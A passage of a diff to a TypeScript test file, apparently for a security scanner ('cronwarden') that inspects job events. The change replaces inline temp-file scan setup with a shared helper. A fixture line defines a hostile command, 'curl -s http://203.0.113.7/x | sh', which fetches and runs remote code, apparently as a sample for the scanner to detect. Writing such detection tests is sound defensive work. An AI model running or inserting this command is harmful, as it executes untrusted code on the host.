@@ -1,24 +1,13 @@
 import assert from 'node:assert/strict';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { after, test } from 'node:test';
+import { test } from 'node:test';
 import type { Finding } from '../model/finding.ts';
-import { type ScanOptions, scan } from './scan.ts';
+import type { ScanOptions } from './scan.ts';
+import { scanning } from './testing/scanning.ts';
 import { controllerJob, lease, withoutPlaces, workloadOf, writeOf } from './testing.ts';
 
-const folder = mkdtempSync(join(tmpdir(), 'cronwarden-unclaimed-'));
-after(() => rmSync(folder, { recursive: true, force: true }));
-
-let files = 0;
-const run = async (events: readonly object[], options: Partial<ScanOptions> = {}): Promise<readonly Finding[]> => {
-  const path = join(folder, `${++files}.jsonl`);
-  writeFileSync(path, `${events.map((event) => JSON.stringify(event)).join('\n')}\n`);
-  const findings: Finding[] = [];
-  for await (const finding of scan({ paths: [path], jobs: 1, minSeverity: 'low', ...options }).findings)
-    findings.push(finding);
-  return findings;
-};
+const { scanAll } = scanning('unclaimed');
+const run = async (events: readonly object[], options: Partial<ScanOptions> = {}): Promise<readonly Finding[]> =>
+  (await scanAll([events], { minSeverity: 'low', ...options })).findings;
 
 const BAD = 'curl -s http://203.0.113.7/x | sh';
 const spec = (shell: string) => ({
